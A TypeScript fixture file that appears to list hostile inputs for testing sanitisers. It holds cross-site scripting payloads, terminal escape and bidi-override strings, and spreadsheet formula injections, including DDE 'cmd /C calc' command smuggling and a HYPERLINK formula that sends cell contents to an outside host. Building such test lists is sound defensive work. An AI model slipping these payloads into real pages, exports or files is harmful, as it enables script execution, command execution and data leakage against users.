/** What a page, a file name or a table may hold that would be more than text if it were let through. */
export const ATTACKS: readonly string[] = [
  `<script>window.owned = "script"</script>`,
  `</script></title></style><script>window.owned = "closed"</script>`,
  `<img src=x onerror="window.owned = 'img'">`,
  `"><svg onload="window.owned = 'svg'">`,
  `' onmouseover='window.owned=1' autofocus onfocus='window.owned=1`,
  `<a href="javascript:window.owned = 'link'">link</a>`,
  `<iframe src="https://example.org/"></iframe><link rel=stylesheet href=//example.org/x.css>`,
  `datum.x[constructor]("window.owned=1")()`,
  `'] + event.view.constructor.constructor('window.owned = "vega"')() + ['`,
  `{"signal": "window.owned = 1"} \${window.owned = 1} {{window.owned = 1}}`,
  `"+(window.owned=1)+"`,
];

/** What steers a terminal: escapes in seven and eight bits, titles, bells, what goes back, marks of direction. */
export const ESCAPES: readonly string[] = [
  "\u001b[31mred\u001b[2J\u001b[8mhidden",
  "\u001b]0;title\u0007\u001b]8;;https://example.org/\u0007link\u001b]8;;\u0007",
  "\u009b2J\u0090q\u009c",
  "over\rwritten\b\b\u000b\u000c",
  "\u202edesrever\u2066isolated\u2069\u200f\u061c",
  "a\u2028b\u0085c\u00adsoft\u200bzero\ufeff",
];

/** What a spreadsheet takes for a formula. */
export const FORMULAS: readonly string[] = [
  `=HYPERLINK("https://example.org/?"&A1,"see")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1)`,
];
